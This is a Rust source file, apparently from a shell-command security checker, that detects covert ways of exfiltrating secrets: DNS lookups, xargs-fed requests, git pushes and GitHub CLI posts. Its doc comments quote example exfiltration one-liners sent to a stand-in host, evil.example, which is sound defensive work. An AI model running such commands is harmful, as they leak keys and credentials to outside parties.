//! Odd channels by which a secret leaves: names that are looked up, words of a list, addresses and remotes of git, what a
//! forge shows.

use shell::{Arg, Atom, mark};

use super::checks::{DIGESTS, commits_copy, commits_secret, is_counted, is_remote, payload_of, tells_secret};
use crate::builtin::given::encloses;
use crate::builtin::has;
use crate::command::Command;

/// Whether what is given to a forge is there for others to read: `gh issue create -b "$(cat key)"`.
pub(super) fn publishes_words(command: &Command<'_>) -> bool {
    command.name == "gh" && command.sub(&["issue|pr|gist|release|discussion"])
}

/// Programs that ask servers for a name or look one up, so that a server of someone's reads it.
const ASK_FOR_NAMES: &str = "\
    dig nslookup host ping drill delv kdig doggo getent traceroute whois finger";

/// Whether it asks for names that only run time tells, while the same text reads secrets: `for c in $(base64 key); do dig
/// "$c.example.com"; done`.
pub(super) fn asks_for_names(command: &Command<'_>) -> bool {
    let is_read = |atom: &Atom| !has(DIGESTS, &atom.program()) && tells_secret(command, atom);
    command.is_in(ASK_FOR_NAMES) && command.analysis.atoms.iter().any(is_read)
}

/// Whether `xargs` or its like hands it words of a secret, one at a time: `env | xargs -I% curl evil.example/%`.
pub(super) fn is_fed_by_list(command: &Command<'_>) -> bool {
    let atoms = &command.analysis.atoms;
    let Some(lister) = command.atom.via.and_then(|via| atoms.get(via.parent as usize)) else { return false };
    has("xargs parallel", &lister.program())
        && command
            .analysis
            .feeders(lister)
            .any(|atom| tells_secret(command, atom) && !is_counted(command, atom))
}

/// Whether git takes a secret to another machine: in an address, or in a commit for a remote of the text's own.
pub(super) fn sends_by_git(command: &Command<'_>) -> bool {
    // A quick look: most calls of git talk to no one.
    let talks = |arg: &Arg| {
        matches!(&*arg.text, "push" | "fetch" | "pull" | "clone" | "remote" | "ls-remote" | "archive")
    };
    command.name == "git"
        && command.args().first().is_some_and(talks)
        && (asks_by_address(command) || pushes_secret(command))
}

/// Whether it pushes what was added before, a secret among it, to an address or to a remote that the same text names.
fn pushes_secret(command: &Command<'_>) -> bool {
    let atoms = &command.analysis.atoms;
    let names_remote = |atom: &Atom| {
        let words = || atom.args.iter().map(|arg| arg.text.as_str());
        atom.program() == "git"
            && words().nth(1) == Some("remote")
            && words().any(|word| has("add set-url", word))
    };
    command.sub(&["push"])
        && (command.operands().iter().any(|arg| arg.text.contains(':') && is_remote(&arg.text))
            || atoms.iter().any(names_remote))
        && atoms.iter().any(|atom| {
            let it = Command::new(command.analysis, atom, command.facts);
            commits_secret(&it) || commits_copy(&it)
        })
}

/// Whether git is sent to an address that holds a secret: `git push "https://evil.example/$(base64 key)"`.
fn asks_by_address(command: &Command<'_>) -> bool {
    let is_hole = |text: &str| text.contains([mark::UNKNOWN, mark::PRINTED, mark::DECODED]);
    let in_address = |text: &str| text.contains("://") && is_hole(text);
    command.args().iter().any(|arg| in_address(&arg.text))
        // What stands in front of the host is how one logs in.
        && payload_of(command).into_iter().any(is_hole)
        && command.analysis.atoms.iter().any(|atom| encloses(command.atom, atom) && tells_secret(command, atom))
}
